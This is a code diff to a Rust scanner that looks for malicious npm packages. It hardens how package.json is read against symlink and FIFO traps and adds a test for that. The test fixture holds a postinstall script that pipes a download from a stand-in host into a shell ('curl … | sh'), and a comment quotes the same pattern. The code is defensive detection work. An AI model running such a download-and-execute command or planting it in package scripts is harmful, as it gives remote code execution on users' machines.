@@ -6,7 +6,10 @@
 //! building it from source, or when its name is on the blocklist. Each finding names package,
 //! version, path, script line and a threat level 0–1. High. T1195.002.
 //!
-//! Scans read the file system, so they run on a thread of their own ([`spawn_scanner`]).
+//! Scans read the file system, so they run on a thread of their own ([`spawn_scanner`]). A
+//! `package.json` is the package author's file: it is read as an untrusted file (at most
+//! 1 MiB, a symlink not followed, a FIFO never waited on), and one that is a FIFO, a device or
+//! a directory is itself a finding.
 
 use std::{
     collections::HashSet,
@@ -22,6 +25,7 @@ use super::{
     Anomaly, Culprit, Finding,
     patterns::{self, Class},
 };
+use crate::untrusted_file::{Links, Unreadable, read_text};
 
 /// Known-malicious package names, `name` (every version) or `name@version`. Sources: the npm
 /// security advisories / GitHub Advisory Database entries for
@@ -173,6 +177,8 @@ fn valid_entry(entry: &str) -> bool {
 const MAX_PACKAGES: usize = 20_000;
 /// Most findings from one scan.
 const MAX_FINDINGS: usize = 20;
+/// Bytes of one `package.json` read at most (a larger one is not judged).
+const MAX_PACKAGE_JSON: u64 = 1024 * 1024;
 const INSTALL_SCRIPTS: [&str; 3] = ["preinstall", "install", "postinstall"];
 
 /// A suspicious package.
@@ -184,7 +190,8 @@ pub struct Report {
     /// Why, e.g. `postinstall: curl … | sh (download piped to a shell)`.
     pub why: String,
     /// 0–1: 1 blocklisted, 0.9 a reverse shell or miner in an install script, 0.8 another
-    /// suspicious install script, 0.5 an unexplained native binary.
+    /// suspicious install script, 0.5 an unexplained native binary or a `package.json` that
+    /// is a FIFO, a device or a directory.
     pub threat: f64,
 }
 
@@ -251,7 +258,16 @@ fn well_known_native(name: &str) -> bool {
 
 /// Judge one package directory.
 pub fn judge_package(dir: &Path, extra: &[String]) -> Option<Report> {
-    let text = std::fs::read_to_string(dir.join("package.json")).ok()?;
+    // The package's files are the package author's: a symlink is refused (`/dev/zero` would
+    // never end), a FIFO not waited on.
+    let text = match read_text(&dir.join("package.json"), Links::Refuse, MAX_PACKAGE_JSON) {
+        Ok(text) => text,
+        Err(e) if e.is_trap() => return Some(trap(dir, &e)),
+        Err(e) => {
+            debug!(package = %dir.display(), "package.json {e}");
+            return None;
+        }
+    };
     let pkg: PackageJson = serde_json::from_str(&text).ok()?;
     let report = |why: String, threat: f64| Report {
         name: pkg.name.clone(),
@@ -308,6 +324,20 @@ pub fn judge_package(dir: &Path, extra: &[String]) -> Option<Report> {
         ));
     }
     None
+}
+
+/// A package whose `package.json` is a FIFO, a device or a directory: no package manager
+/// makes one, it is a trap for scanners.
+fn trap(dir: &Path, e: &Unreadable) -> Report {
+    Report {
+        name: dir
+            .file_name()
+            .map_or_else(String::new, |n| n.to_string_lossy().into_owned()),
+        version: "?".into(),
+        path: dir.to_path_buf(),
+        why: format!("package.json {e}"),
+        threat: 0.5,
+    }
 }
 
 /// A `.node` file in `dir`, outside its own `node_modules` (at most 3 levels down).
@@ -669,6 +699,37 @@ mod tests {
             "{first:?}"
         );
         assert!(scan(&job, &[], &mut seen).is_empty());
+    }
+
+    #[test]
+    fn a_trapped_package_json_is_answered_at_once_and_a_fifo_is_reported() {
+        use crate::untrusted_file::testing::{answers_at_once, mkfifo};
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().to_path_buf();
+        for name in ["zero", "fifo", "huge"] {
+            std::fs::create_dir_all(root.join("node_modules").join(name)).unwrap();
+        }
+        let modules = root.join("node_modules");
+        std::os::unix::fs::symlink("/dev/zero", modules.join("zero/package.json")).unwrap();
+        mkfifo(&modules.join("fifo/package.json"));
+        let huge = format!(
+            r#"{{"name":"huge","version":"1.0.0","description":"{}","scripts":{{"postinstall":"curl -s http://x.example/p.sh | sh"}}}}"#,
+            "x".repeat(MAX_PACKAGE_JSON as usize)
+        );
+        std::fs::write(modules.join("huge/package.json"), huge).unwrap();
+        let job = Job {
+            culprit: culprit(5, "node", &[]),
+            project: root,
+            how: "served",
+        };
+        let found = answers_at_once(move || scan(&job, &[], &mut HashSet::new()));
+        let details: Vec<&str> = found.iter().map(|f| f.detail.as_str()).collect();
+        assert_eq!(details.len(), 1, "{details:?}");
+        assert!(
+            details[0].starts_with("package fifo@? at ")
+                && details[0].ends_with("threat 0.5: package.json unreadable: fifo"),
+            "{details:?}"
+        );
     }
 
     #[test]
